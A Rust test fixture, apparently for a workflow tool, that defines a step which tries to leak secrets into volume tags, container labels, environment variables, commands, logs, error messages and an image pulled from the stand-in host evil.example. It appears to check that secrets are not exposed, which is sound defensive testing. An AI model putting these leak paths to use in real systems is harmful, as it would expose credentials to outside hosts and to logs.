//! A step that tries to get at secrets, for the tests of the program.

use stepback_sdk::{
    Check, Failure, FailureClass, Pair, Step, docker, ebs, export_steps, failure, log,
};

/// Where it writes what it hopes stands for a secret.
#[derive(Clone, Copy, serde::Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Place {
    TagValue,
    TagKey,
    Volume,
    Host,
    Name,
    Image,
    Pull,
    Command,
    Exec,
    Label,
    LabelKey,
    EnvironmentKey,
    Environment,
    Output,
    Failure,
    Log,
    Nowhere,
}

#[derive(Clone, Copy, PartialEq, serde::Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Moment {
    Check,
    Run,
}

#[derive(serde::Deserialize, schemars::JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct ForgeInput {
    place: Place,
    at: Moment,
    /// What it was given.
    #[serde(default)]
    given: String,
    /// Instead of that, what stands for the secret of this name in a journal.
    #[serde(default)]
    guess: Option<String>,
}

impl ForgeInput {
    fn text(&self) -> String {
        match &self.guess {
            Some(name) => format!("\u{1}secret:{name}\u{1}"),
            None => self.given.clone(),
        }
    }
}

/// Writes what it was given, or guesses, where a secret could be read back.
pub struct Forge;

impl Step for Forge {
    type Input = ForgeInput;
    type Output = String;
    const NAME: &'static str = "forge";
    const DOC: &'static str = "Write what stands for a secret where it could be read back.";

    fn check(input: &ForgeInput) -> Result<Check, Failure> {
        if input.at == Moment::Check {
            forge(input)?;
        }
        Ok(Check::Ok)
    }

    fn run(input: ForgeInput) -> Result<String, Failure> {
        match input.at {
            Moment::Run => forge(&input),
            Moment::Check => Ok(String::new()),
        }
    }
}

const VOLUME: &str = "vol-db-main";
const HOST: &str = "i-db-1";

fn forge(input: &ForgeInput) -> Result<String, Failure> {
    let text = input.text();
    let pair = |key: &str, value: &str| Pair { key: key.to_owned(), value: value.to_owned() };
    let make = |fill: &dyn Fn(&mut docker::ContainerSpec)| {
        let mut spec = docker::ContainerSpec {
            image: "postgres:16".to_owned(),
            command: vec![],
            env: vec![],
            mounts: vec![],
            ports: vec![],
            restart: None,
            labels: vec![],
            like: None,
        };
        fill(&mut spec);
        docker::create_container(HOST, "forged", &spec).map(drop)
    };
    match input.place {
        Place::TagValue => ebs::tag(VOLUME, "forged", &text)?,
        Place::TagKey => ebs::tag(VOLUME, &text, "forged")?,
        Place::Volume => ebs::describe(&text).map(drop)?,
        Place::Host => docker::list_containers(&text).map(drop)?,
        Place::Name => docker::inspect_container(HOST, &text).map(drop)?,
        Place::Image => docker::inspect_image(HOST, &format!("evil.example/x:{text}")).map(drop)?,
        Place::Pull => docker::pull_image(HOST, &format!("evil.example/x:{text}")).map(drop)?,
        Place::Command => make(&|spec| spec.command = vec!["echo".to_owned(), text.clone()])?,
        Place::Exec => docker::exec(HOST, "main", std::slice::from_ref(&text), 1_000).map(drop)?,
        Place::Label => make(&|spec| spec.labels = vec![pair("forged", &text)])?,
        Place::LabelKey => make(&|spec| spec.labels = vec![pair(&text, "forged")])?,
        Place::EnvironmentKey => make(&|spec| spec.env = vec![pair(&text, "forged")])?,
        Place::Environment => make(&|spec| spec.env = vec![pair("FORGED", &text)])?,
        Place::Output => return Ok(text),
        Place::Failure => return Err(failure(FailureClass::Precondition, text)),
        Place::Log => log::info(&text),
        Place::Nowhere => {}
    }
    let told = ebs::describe(VOLUME)?;
    Ok(told.tags.iter().map(|tag| format!("{}={}", tag.key, tag.value)).collect())
}

export_steps!(Forge);
